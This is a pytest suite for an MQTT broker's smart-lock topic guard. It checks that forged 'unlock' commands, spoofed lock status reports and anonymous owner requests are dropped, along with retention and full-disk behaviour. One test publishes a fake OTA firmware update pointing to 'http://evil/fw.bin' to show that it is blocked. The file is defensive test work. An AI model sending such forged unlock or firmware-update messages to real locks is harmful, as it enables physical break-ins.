"""Lock topics against a hostile client on a real sakura-broker, whatever the ACL configuration
says (lockrules/topic_guard.hpp, docs/lockrules.md "Who may publish on a lock's topics").

The open configurations are the ones the old system ran with: auth.acl_nomatch=allow (a user
without mqtt_acl rows may publish anywhere) and anonymous access without an acl file. In both a
phone used to open any door by publishing `unlock` on /<lockno>/call. Accounts come from an
auth.users_file: the lock (its username is its lockno), a second lock, a phone with no ACL rows and
an operator (superuser). "Nothing arrives" is always proved by a later marker that does arrive on
the same subscription, never by sleeping."""
import contextlib
import errno
import subprocess
import time
import urllib.request

import pytest

import mqtt_raw as m
from auth_support import Redis
from conftest import DEFAULTS, BrokerProcess, built_with_sanitizers, rss_kib, wait_for

LOCK = "AB000000001"
OTHER_LOCK = "AB000000002"
PASSWORD = "s3cret"


def users_file(tmp_path):
    path = tmp_path / "users"
    # The lock as POST /devices provisions it; the second lock as an old deployment might have
    # it, without ACL rows (under acl_nomatch=allow it may then publish anywhere).
    path.write_text(f"user {LOCK} {PASSWORD}\n"
                    f"acl {LOCK} /{LOCK}/statu 2\nacl {LOCK} /{LOCK}/fw 2\n"
                    f"acl {LOCK} /{LOCK}/call 1\nacl {LOCK} /{LOCK}/ota 1\n"
                    f"user {OTHER_LOCK} {PASSWORD}\n"
                    f"user phone {PASSWORD}\n"
                    f"user operator {PASSWORD} superuser\n")
    return str(path)


# The two configurations that let any client publish anywhere as far as the ACL is concerned.
OPEN_CONFIGS = {
    "acl_nomatch_allow": dict(auth__allow_anonymous="false", auth__acl_nomatch="allow"),
    "anonymous_no_acl_file": dict(auth__allow_anonymous="true", auth__acl_nomatch="deny"),
}


@pytest.fixture(params=sorted(OPEN_CONFIGS))
def open_broker(request, start_broker, tmp_path):
    b = start_broker(auth__users_file=users_file(tmp_path), **OPEN_CONFIGS[request.param])
    b.config = request.param
    return b


def client(broker, name, client_id=None):
    """A connected client: `name` is a users-file account, or None for anonymous."""
    c = m.Client(broker.port)
    kw = {} if name is None else {"username": name, "password": PASSWORD}
    c.connect(client_id or f"{name or 'anon'}-{id(c)}", **kw)
    return c


def attacker(broker):
    """The phone: a named user without ACL rows under acl_nomatch=allow, else anonymous."""
    return client(broker, "phone" if broker.config == "acl_nomatch_allow" else None)


def publish(c, topic, payload, retain=False, qos=1, packet_id=1):
    c.send(m.publish(topic, payload, qos=qos, retain=retain, packet_id=packet_id))
    if qos:
        c.expect(m.PUBACK)  # a dropped publish is still acknowledged (3.1.1 has no negative ack)


def publishes_until(c, marker):
    """(topic, payload, retain) of every PUBLISH `c` receives, up to and including `marker`."""
    got = []
    while True:
        p = c.expect(m.PUBLISH)
        if p.qos:
            c.send(m.ack("puback", p.publish_id))
        got.append((p.topic, p.payload.decode(errors="replace"), p.retain))
        if p.payload == marker.encode():
            return got


def test_a_forged_unlock_never_reaches_the_lock(open_broker):
    lock = client(open_broker, LOCK, client_id=LOCK)
    assert lock.subscribe(1, (f"/{LOCK}/call", 1), (f"/{LOCK}/ota", 1)) == [1, 1]
    phone = attacker(open_broker)
    publish(phone, f"/{LOCK}/call", "unlock")
    publish(phone, f"/{LOCK}/ota", '{"version":"6.6.6","url":"http://evil/fw.bin"}', packet_id=2)
    # The operator's marker on the same topic: whatever the phone's publishes did is ahead of it.
    publish(client(open_broker, "operator"), f"/{LOCK}/call", "marker")
    assert publishes_until(lock, "marker") == [(f"/{LOCK}/call", "marker", False)]
    wait_for(lambda: "command from a non-superuser dropped" in open_broker.log(), what="the log line")


def test_a_lock_of_its_own_cannot_unlock_another(start_broker, tmp_path):
    """A lock whose flash was read is a non-superuser account too (without ACL rows, under
    acl_nomatch=allow: the ACL lets it publish anywhere)."""
    b = start_broker(auth__users_file=users_file(tmp_path), **OPEN_CONFIGS["acl_nomatch_allow"])
    lock = client(b, LOCK, client_id=LOCK)
    assert lock.subscribe(1, (f"/{LOCK}/call", 1)) == [1]
    publish(client(b, OTHER_LOCK), f"/{LOCK}/call", "unlock")
    publish(client(b, "operator"), f"/{LOCK}/call", "marker")
    assert publishes_until(lock, "marker") == [(f"/{LOCK}/call", "marker", False)]


def test_reports_for_a_lock_are_taken_only_from_that_lock(open_broker):
    watcher = client(open_broker, "operator")
    assert watcher.subscribe(1, (f"/{LOCK}/statu", 1), (f"/{LOCK}/fw", 1)) == [1, 1]
    publish(attacker(open_broker), f"/{LOCK}/statu", "0")
    publish(client(open_broker, OTHER_LOCK), f"/{LOCK}/fw", '{"version":"0.0.1","state":"running"}')
    # The lock's own report is the marker, and passes.
    publish(client(open_broker, LOCK), f"/{LOCK}/statu", "1")
    assert publishes_until(watcher, "1") == [(f"/{LOCK}/statu", "1", False)]


def test_an_anonymous_client_cannot_ask_for_an_unlock(start_broker, tmp_path):
    """Both owners' requests from one anonymous client used to open the door like a real pair."""
    b = start_broker(auth__users_file=users_file(tmp_path), auth__allow_anonymous="true")
    watcher = client(b, "operator")
    assert watcher.subscribe(1, (f"/{LOCK}/#", 1)) == [1]
    anon = client(b, None)
    publish(anon, f"/{LOCK}/m", "")
    publish(anon, f"/{LOCK}/f", "", packet_id=2)
    wait_for(lambda: b.log().count("owner request from an anonymous client dropped") >= 1,
             what="the refusal")
    publish(client(b, "operator"), f"/{LOCK}/x", "marker")
    assert publishes_until(watcher, "marker") == [(f"/{LOCK}/x", "marker", False)]
    assert "both owners of" not in b.log()


@pytest.mark.parametrize("topic", [f"/{LOCK}/m", f"/{LOCK}/f", f"/{LOCK}/call", "/unauth"])
def test_rule_topics_are_never_retained(open_broker, topic):
    # The operator may publish on every one of them: retention is refused to everybody.
    big = "x" * 1_000_000
    publish(client(open_broker, "operator"), topic, big, retain=True)
    if topic != f"/{LOCK}/call":
        publish(attacker(open_broker), topic, big, retain=True)
    late = client(open_broker, "operator")
    assert late.subscribe(1, (topic, 1), ("/marker", 1)) == [1, 1]
    publish(client(open_broker, "operator"), "/marker", "marker")
    # A retained message would come right after the SUBACK, ahead of the marker.
    assert publishes_until(late, "marker") == [("/marker", "marker", False)]


def test_retain_stays_for_topics_without_a_rule(open_broker):
    """The control for the test above: the same client's retained publish elsewhere is kept."""
    publish(attacker(open_broker), f"/{LOCK}/note", "kept", retain=True)
    late = client(open_broker, "operator")
    assert late.subscribe(1, (f"/{LOCK}/note", 1)) == [1]
    p = late.expect(m.PUBLISH)
    assert (p.payload, p.retain) == (b"kept", True)


@pytest.mark.parametrize("config,warning", [
    ("acl_nomatch_allow", "auth.acl_nomatch=allow"),
    ("anonymous_no_acl_file", "auth.allow_anonymous=true without auth.acl_file"),
])
def test_an_open_configuration_is_warned_about_at_start(start_broker, tmp_path, config, warning):
    b = start_broker(auth__users_file=users_file(tmp_path), **OPEN_CONFIGS[config])
    wait_for(lambda: warning in b.log(), what=warning)
    assert any("[warning]" in line or "warn" in line for line in b.log().splitlines() if warning in line)


def test_a_closed_configuration_starts_without_the_warning(start_broker, tmp_path):
    b = start_broker(auth__users_file=users_file(tmp_path), auth__allow_anonymous="false")
    wait_for(lambda: "auth: backend=" in b.log(), what="the auth line")
    assert "lets clients" not in b.log()


# --- A full disk (issue 16, item 10) -------------------------------------------------------------
# A small tmpfs stands for the disk, filled to the last page by a filler file and freed by
# deleting it. (The test runs as root; the mount is undone in a finally.)

@contextlib.contextmanager
def small_disk(path, size):
    path.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], check=True)
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=True)


def fill(disk):
    """Writes a filler file until the disk has no page left; returns it."""
    filler = disk / "filler"
    with open(filler, "wb", buffering=0) as f:
        chunk = b"\0" * 65536
        try:
            while True:
                f.write(chunk)
        except OSError as e:
            assert e.errno == errno.ENOSPC, e
        try:
            while True:
                f.write(b"\0")
        except OSError as e:
            assert e.errno == errno.ENOSPC, e
    return filler


def metric(broker, name):
    text = urllib.request.urlopen(f"http://127.0.0.1:{broker.ports['http_ops']}/metrics", timeout=10).read().decode()
    for line in text.splitlines():
        if line.startswith(name + " "):
            return int(float(line.split()[1]))
    raise AssertionError(f"no {name} in /metrics")


def test_full_disk_history_spool_keeps_every_acknowledged_event(tmp_path):
    """Status changes while the spool's disk is full fail (and are counted); the ones after it has
    room again are acknowledged, and a restart finds every acknowledged one in the spool (the
    database is unreachable, so they all wait there). Before, the record the full disk cut short
    stayed in the spool and recovery stopped at it, losing the later ones."""
    redis = Redis(tmp_path).start()
    b = None
    try:
        redis.cli("HSET", f"mqtt_user:{LOCK}", "password", PASSWORD)
        redis.cli("HSET", f"mqtt_acl:{LOCK}", f"/{LOCK}/statu", "2")
        with small_disk(tmp_path / "disk", "1m") as disk:
            # The data dir (the spool) on the small disk, the broker's log and port file beside it.
            settings = {**DEFAULTS, "node.data_dir": str(disk), "auth.backend": "redis",
                        "redis.server": redis.address, "auth.allow_anonymous": "false",
                        "sql.backend": "mariadb", "sql.host": "127.0.0.1", "sql.port": "1",
                        "persistence.enabled": "false", "http.ops_bind": "127.0.0.1:0",
                        "http.admin_token": "t"}
            b = BrokerProcess(tmp_path / "run", settings).start()
            lock = client(b, LOCK, client_id=LOCK)
            done = lambda: (metric(b, "sakura_lockrules_history_events_total") +
                            metric(b, "sakura_lockrules_history_failures_total"))
            sent = 0

            def report(n):
                # In rounds under the rules' 64 inputs per lock, each round answered before the
                # next: every report is a change, and every change one history append.
                nonlocal sent
                for _ in range(0, n, 30):
                    for _ in range(30):
                        sent += 1
                        publish(lock, f"/{LOCK}/statu", "01"[sent % 2], packet_id=sent % 60000 + 1)
                    wait_for(lambda: done() == sent, what=f"{sent} history appends answered")

            report(30)
            filler = fill(disk)
            report(300)  # the spool's last page fills, one record is cut short, the rest fail
            failed = metric(b, "sakura_lockrules_history_failures_total")
            assert failed > 0
            filler.unlink()
            report(60)
            acked = metric(b, "sakura_lockrules_history_events_total")
            assert acked == sent - failed
            assert b.stop() == 0
            b.start()
            wait_for(lambda: "events from a previous run are waiting" in b.log(), what="the recovery line")
            recovered = [l for l in b.log().splitlines() if "events from a previous run are waiting" in l][-1]
            assert f"history: {acked} events" in recovered, recovered
            assert b.stop() == 0
    finally:
        if b:
            b.stop()
        redis.stop()


def test_full_disk_journal_stays_bounded_and_recovers(start_broker, tmp_path):
    """While the journal's disk is full, 200 MB of QoS 1 messages for an offline persistent
    session are refused instead of piling up in the journal's queue (VmRSS stays flat), and once
    there is room the journal is written again from memory: every publish is acknowledged, and what
    was acknowledged before and after the outage survives a restart. Before, the journal's queue
    held every message body (RSS grew by the full 200 MB) and persistence.max_bytes never acted."""
    # Room for the live state the broker kept before it saw the failure (at most the session's
    # 8 MB queue), not for the 200 MB.
    with small_disk(tmp_path / "disk", "16m") as disk:
        settings = dict(persistence__path=str(disk / "sessions.journal"), persistence__sync="always",
                        http__ops_bind="127.0.0.1:0", http__admin_token="t")
        b = start_broker(**settings)
        away = m.Client(b.port)
        away.connect("away", clean=False)
        assert away.subscribe(1, ("t/#", 1)) == [1]
        away.send(m.DISCONNECT)
        away.close()
        pub = m.Client(b.port, timeout=30)
        pub.connect("pub")
        publish(pub, "t/before", "before")
        filler = fill(disk)

        body = "x" * 1_000_000
        rss_before = rss_kib(b.proc.pid)
        started = time.monotonic()
        for i in range(200):
            pub.send(m.publish("t/full", body, qos=1, packet_id=i + 1))
        wait_for(lambda: metric(b, "sakura_persistence_refused_total") >= 190, timeout=30,
                 what="the messages refused")
        assert metric(b, "sakura_persistence_failing") == 1
        if not built_with_sanitizers():
            grew = rss_kib(b.proc.pid) - rss_before
            assert grew < 64 * 1024, f"VmRSS grew by {grew} KiB while the disk was full"
        assert "persistence store cannot write" in b.log()
        lines = b.log().count("persistence store cannot write")  # at most one a second
        assert lines <= time.monotonic() - started + 1, lines

        filler.unlink()
        wait_for(lambda: metric(b, "sakura_persistence_failing") == 0, timeout=10,
                 what="the journal written again")
        assert "written again from memory" in b.log()
        # The few messages stored before the broker saw the failure were promised durable: their
        # acknowledgements (and, to keep the order, the ones behind them) waited until now.
        acks = {pub.expect(m.PUBACK).packet_id for _ in range(200)}
        assert acks == set(range(1, 201))
        publish(pub, "t/after", "after", packet_id=300)
        assert b.stop() == 0

        b = start_broker(**settings)
        away = m.Client(b.port)
        assert away.connect("away", clean=False).body[0] == 1
        got = []
        while not got or got[-1][1] != "after":
            p = away.expect(m.PUBLISH)
            away.send(m.ack("puback", p.publish_id))
            got.append((p.topic, p.payload.decode()[:10]))
        assert got[0] == ("t/before", "before")
        assert got[-1] == ("t/after", "after")
        assert b.stop() == 0
